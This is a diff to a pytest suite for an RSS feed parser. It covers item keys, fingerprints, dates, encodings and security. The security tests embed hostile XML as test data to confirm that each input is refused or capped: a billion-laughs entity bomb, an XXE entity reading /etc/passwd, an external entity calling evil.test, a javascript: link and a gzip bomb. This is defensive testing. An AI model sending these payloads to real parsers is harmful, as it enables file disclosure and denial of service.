@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from transforms.feeds import FeedParseError, parse_feed
+from transforms.feeds import FeedParseError, parse_feed, read_feed
 
 
 def _feed(shared_dir, name: str) -> bytes:
@@ -19,8 +19,7 @@ def _manifest(shared_dir) -> dict[str, dict]:
 
 
 def test_every_well_formed_feed_yields_its_items(shared_dir):
-    broken = {"feeds/dylanharris-malformed.xml", "feeds/reuters-mostread-truncated.xml",
-              "feeds/nshipster-gzipped-body.xml"}
+    broken = {"feeds/dylanharris-malformed.xml", "feeds/reuters-mostread-truncated.xml"}
     for path, entry in _manifest(shared_dir).items():
         if path in broken:
             continue
@@ -28,16 +27,14 @@ def test_every_well_formed_feed_yields_its_items(shared_dir):
                             url=entry["url"] or "https://example.org/feed")
         # items repeated inside one feed (Al-Monitor) are folded, so <= the manifest's count
         assert 0 < len(parsed.items) <= entry["items"], path
-        # pcmag-dvorak has a stray <item /> before each real item: those have no link
         with_links = [i for i in parsed.items if i.link]
-        assert len(with_links) >= len(parsed.items) // 2, path
+        assert len(with_links) == len(parsed.items), path
         assert all(i.link.startswith("http") for i in with_links), path
 
 
 @pytest.mark.parametrize("name,reason", [
     ("dylanharris-malformed.xml", "feed_malformed"),
     ("reuters-mostread-truncated.xml", "feed_malformed"),
-    ("nshipster-gzipped-body.xml", "not_a_feed"),
 ])
 def test_broken_feeds_raise_with_a_reason(shared_dir, name, reason):
     with pytest.raises(FeedParseError) as info:
@@ -106,3 +103,117 @@ def test_max_items():
     doc = f'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>{items}</channel></rss>'
     parsed = parse_feed(doc.encode(), source_id="s", url="https://e.org/feed", max_items=3)
     assert [i.title for i in parsed.items] == ["t0", "t1", "t2"]
+
+
+def _rss(items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> bytes:
+    return (f'{head}<rss version="2.0"><channel><title>x</title><link>https://e.org/</link>'
+            f"{items}</channel></rss>").encode()
+
+
+# --- security: no entities -------------------------------------------------------------------
+
+BILLION_LAUGHS = _rss("<item><title>&lol3;</title><link>https://e.org/a</link></item>",
+                      head='<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+                           '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+                           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
+
+
+@pytest.mark.parametrize("doc", [
+    BILLION_LAUGHS,
+    _rss("<item><title>&xxe;</title><link>https://e.org/a</link></item>",
+         head='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
+    _rss("<item><title>x</title><link>https://e.org/a</link></item>",
+         head='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;]>'),
+    # not well formed after the DOCTYPE: the scan still sees the declarations
+    b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><rss><channel><title>&b;</ti',
+], ids=["billion-laughs", "xxe-file", "external-parameter-entity", "malformed-with-entities"])
+def test_entity_declarations_are_refused(doc):
+    with pytest.raises(FeedParseError) as info:
+        parse_feed(doc, source_id="s", url="https://e.org/feed")
+    assert info.value.reason == "xml_entities_forbidden"
+
+
+def test_a_public_doctype_without_entities_is_fine():
+    doc = _rss("<item><title>t</title><link>https://e.org/a</link></item>",
+               head='<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD '
+                    'RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">')
+    assert len(parse_feed(doc, source_id="s", url="https://e.org/feed").items) == 1
+
+
+def test_a_feed_that_is_a_file_name_is_not_opened(tmp_path):
+    """feedparser opens a str (or bytes) naming a file; we always hand it a byte stream."""
+    secret = tmp_path / "secret.xml"
+    secret.write_bytes(_rss("<item><title>leak</title><link>https://e.org/a</link></item>"))
+    with pytest.raises(FeedParseError):
+        parse_feed(str(secret).encode(), source_id="s", url="https://e.org/feed")
+
+
+# --- keys, fingerprints, dates ---------------------------------------------------------------
+
+def test_guid_shared_by_different_items_is_not_used_as_key():
+    items = "".join(f"<item><guid>https://e.org/feed</guid><title>t{i}</title>"
+                    f"<link>https://e.org/{i}</link></item>" for i in range(3))
+    parsed = parse_feed(_rss(items), source_id="s", url="https://e.org/feed")
+    assert len(parsed.items) == 3 and all(i.guid is None for i in parsed.items)
+
+
+def test_item_key_prefers_guid_then_canonical_link_then_title_and_date():
+    doc = _rss("<item><guid>urn:uuid:1234-abcd</guid><title>a</title><link>https://e.org/a</link></item>"
+               "<item><title>b</title><link>https://e.org/b?utm_source=rss</link></item>"
+               "<item><title>c</title><pubDate>Tue, 17 Feb 2026 18:55:33 GMT</pubDate></item>")
+    a, b, c = parse_feed(doc, source_id="s", url="https://e.org/feed").items
+    from transforms.ids import stable_id
+    assert a.item_id == stable_id("s", "urn:uuid:1234-abcd")
+    assert b.item_id == stable_id("s", "https://e.org/b")
+    assert c.item_id == stable_id("s", "c|2026-02-17T18:55:33+00:00") and c.link is None
+
+
+def test_guid_urls_with_tracking_parameters_keep_one_key():
+    one = _rss("<item><guid>https://e.org/a?utm_source=x</guid><title>a</title>"
+               "<link>https://e.org/a</link></item>")
+    two = _rss("<item><guid>https://e.org/a?utm_source=y</guid><title>a</title>"
+               "<link>https://e.org/a</link></item>")
+    assert parse_feed(one, source_id="s", url="u").items[0].item_id == \
+        parse_feed(two, source_id="s", url="u").items[0].item_id
+
+
+def test_fingerprint_changes_with_the_item_not_with_the_run():
+    v1 = _rss("<item><guid>id-1234</guid><title>a</title><link>https://e.org/a</link></item>")
+    v2 = _rss("<item><guid>id-1234</guid><title>a (updated)</title><link>https://e.org/a</link></item>")
+    (x,), (y,), (z,) = (parse_feed(d, source_id="s", url="u").items for d in (v1, v1, v2))
+    assert x.fingerprint == y.fingerprint != z.fingerprint and x.item_id == z.item_id
+
+
+def test_future_dates_are_flagged_and_not_used():
+    from datetime import datetime, timezone
+    doc = _rss("<item><title>a</title><link>https://e.org/a</link>"
+               "<pubDate>Tue, 17 Feb 2099 18:55:33 GMT</pubDate></item>")
+    (item,) = parse_feed(doc, source_id="s", url="u",
+                         now=datetime(2026, 2, 18, tzinfo=timezone.utc)).items
+    assert item.published_flag == "future" and item.published_at is None
+    assert item.published_raw == "Tue, 17 Feb 2099 18:55:33 GMT"
+
+
+def test_non_http_links_are_not_links():
+    doc = _rss("<item><title>a</title><link>javascript:alert(1)</link></item>"
+               "<item><title>b</title><link>mailto:x@e.org</link></item>")
+    assert [i.link for i in parse_feed(doc, source_id="s", url="u").items] == [None, None]
+
+
+def test_decoding_is_reported():
+    doc = ('<?xml version="1.0" encoding="windows-1251"?><rss version="2.0"><channel>'
+           "<title>\u041d\u043e\u0432\u043e\u0441\u0442\u0438</title><item><title>\u041c\u0438\u0440</title>"
+           "<link>https://e.org/a</link></item></channel></rss>").encode("cp1251")
+    got = read_feed(doc, source_id="s", url="u")
+    assert (got.encoding, got.encoding_source) == ("cp1251", "declared")
+    assert got.feed.items[0].title == "\u041c\u0438\u0440"
+    http = read_feed(doc, source_id="s", url="u", content_type="application/xml; charset=windows-1251")
+    assert http.encoding_source == "http"
+
+
+def test_a_gzip_bomb_body_is_capped():
+    import gzip
+    bomb = gzip.compress(b"<rss>" + b" " * 5_000_000 + b"</rss>")
+    with pytest.raises(FeedParseError) as info:
+        read_feed(bomb, source_id="s", url="u", max_bytes=1_000_000)
+    assert info.value.reason == "too_large_decompressed"
